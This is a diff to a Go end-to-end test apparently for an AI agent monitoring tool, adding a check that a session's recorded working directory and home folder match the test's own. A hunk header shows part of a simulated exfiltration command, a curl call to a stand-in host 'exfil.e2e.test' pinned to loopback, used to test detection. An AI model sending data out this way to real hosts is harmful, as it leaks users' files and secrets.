@@ -9,6 +9,7 @@ import (
 	"net"
 	"os"
 	"os/exec"
+	"os/user"
 	"path/filepath"
 	"slices"
 	"strconv"
@@ -266,6 +267,11 @@ curl -fsS --cacert "$1" --resolve "exfil.e2e.test:$3:127.0.34.3" "https://exfil.
 		s := w.waitSession(t, "claude", cmd.Process.Pid)
 		if s.Mode != "daemon" || s.ParentPID != os.Getpid() {
 			t.Errorf("session_start mode %q parent %d, want daemon and the test (%d)", s.Mode, s.ParentPID, os.Getpid())
+		}
+		// Its working tree and its user's home, which tell routine reads.
+		wd, _ := os.Getwd()
+		if u, err := user.Current(); err != nil || s.Workdir != wd || s.Home != u.HomeDir {
+			t.Errorf("session_start workdir %q home %q, want %q and the user's home (%v)", s.Workdir, s.Home, wd, err)
 		}
 		r := w.waitRecord(t, "the agent's request", func(r telemetry.Record) bool {
 			return r.Session == s.Session && r.Kind == event.KindHTTP && strings.HasSuffix(r.URL, "/found")
